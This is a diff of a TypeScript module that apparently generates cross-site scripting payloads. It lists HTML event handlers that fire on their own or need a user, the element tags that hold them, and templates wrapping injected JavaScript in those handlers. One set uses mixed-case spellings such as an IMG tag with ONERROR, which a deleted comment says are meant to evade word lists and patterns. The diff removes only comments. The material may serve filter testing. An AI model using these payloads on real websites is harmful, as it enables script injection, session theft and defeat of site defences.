@@ -1,4 +1,3 @@
-// Event handlers that fire on their own, that need a user, and in many spellings.
 import { crossed, entities, words, type Payload } from './payload.ts'
 
 const SELF_FIRING: readonly Payload[] = [
@@ -62,7 +61,6 @@ const WAITING = words(`
   onreset onresize onscroll onscrollend onsearch onseeked onseeking onselect onselectionchange onselectstart onslotchange onstalled onsubmit
   onsuspend ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitionend onvolumechange onwaiting onwheel`)
 
-/** The elements that hold the handlers above in turn. */
 const HOLDERS = words(
   'p div span b a img table td li h2 blockquote figure font center svg math form input button video xss-a',
 )
@@ -71,7 +69,6 @@ const waiting: Payload[] = WAITING.map((name, index) => {
   return js => `<${tag} tabindex=0 ${name}="${js}">x</${tag}>`
 })
 
-/** One handler in spellings that evade word lists and patterns. */
 const WRITTEN: readonly ((js: string) => string)[] = [
   js => `<IMG SRC=X ONERROR=${js}>`,
   js => `<iMg sRc=x oNeRrOr="${js}">`,
